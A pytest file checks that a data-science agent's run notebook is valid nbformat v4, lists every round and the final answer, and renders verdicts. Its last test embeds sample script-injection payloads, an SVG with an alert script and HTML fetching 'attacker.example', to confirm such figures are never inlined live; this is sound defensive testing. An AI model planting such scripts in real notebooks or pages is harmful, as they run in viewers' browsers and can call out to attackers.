"""The run notebook: valid nbformat v4 with every round and the final answer."""

from __future__ import annotations

import nbformat
from rendered import shown_text

from dsstar.views.notebook import build_notebook

QUESTION = "What was the total revenue of the North region?"
ROUNDS = [
    {
        "number": 0,
        "plan": ["Load orders.csv"],
        "code": "import pandas as pd\nprint(pd.read_csv('orders.csv').shape)",
        "output": "(1200, 4)\n",
        "verdict": False,
        "route": None,
    },
    {
        "number": 1,
        "plan": ["Load orders.csv", "Sum revenue of the North region"],
        "code": "print(12345.67)",
        "output": "",
        "verdict": True,
        "route": "Add Step",
    },
]


def build(**overrides: object) -> nbformat.NotebookNode:
    arguments = {
        "question": QUESTION,
        "rounds": ROUNDS,
        "solution": "print(round(12345.671, 2))",
        "answer": "12345.67",
        "status": "answered",
    } | overrides
    notebook = nbformat.reads(build_notebook(**arguments), as_version=4)
    nbformat.validate(notebook)
    return notebook


def test_valid_v4_notebook_with_every_round() -> None:
    notebook = build()
    assert notebook.nbformat == 4
    assert notebook.metadata.kernelspec.name == "python3"
    kinds = [cell.cell_type for cell in notebook.cells]
    assert kinds == ["markdown", "markdown", "code", "markdown", "code", "markdown", "code"]

    title, round0, code0, round1, code1, final_title, final = notebook.cells
    title, shown0, shown1 = (shown_text(cell.source) for cell in (title, round0, round1))
    assert QUESTION in title and "answered" in title
    assert "Round 00" in shown0 and "Load orders.csv" in shown0
    assert "not sufficient" in shown0 and "Route" not in shown0
    assert "Round 01" in shown1 and "Sum revenue of the North region" in shown1
    assert "2. Sum revenue" in round1.source  # a numbered list: the plan's steps
    assert "Verdict: sufficient" in shown1 and "Add Step" in shown1

    assert code0.source == ROUNDS[0]["code"]
    assert [o.text for o in code0.outputs] == ["(1200, 4)\n"]
    assert code1.source == "print(12345.67)" and code1.outputs == []

    assert "Final solution" in final_title.source
    assert final.source == "print(round(12345.671, 2))"
    assert final.outputs[0].output_type == "stream" and final.outputs[0].text == "12345.67"


def test_no_rounds_and_no_answer() -> None:
    notebook = build(rounds=[], answer=None, status="failed")
    assert len(notebook.cells) == 3
    assert "failed" in notebook.cells[0].source
    assert notebook.cells[-1].outputs == []


def test_unknown_verdict_is_a_dash() -> None:
    notebook = build(rounds=[ROUNDS[0] | {"verdict": None}])
    assert "Verdict: -" in notebook.cells[1].source


def test_figures_a_script_wrote_are_never_inlined_as_live_svg_or_html() -> None:
    import base64

    def figure(name: str, data: bytes) -> dict:
        return {"name": name, "data": base64.b64encode(data).decode(), "bytes": len(data)}

    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    html = b"<html><script>fetch('http://attacker.example')</script></html>"
    png = b"\x89PNG\r\n\x1a\n"
    notebook = build(figures=[figure("chart.svg", svg), figure("plot.html", html),
                              figure("revenue.png", png)])  # fmt: skip
    outputs = notebook.cells[-1].outputs[1:]
    kinds = [sorted(o.data) for o in outputs]
    assert kinds == [["text/plain"], ["text/plain"], ["image/png"]]  # pixels only, inline
    text = nbformat.writes(notebook)
    assert "<script>" not in text and "image/svg+xml" not in text and "text/html" not in text
    assert "chart.svg" in outputs[0].data["text/plain"] and "untrusted" in text
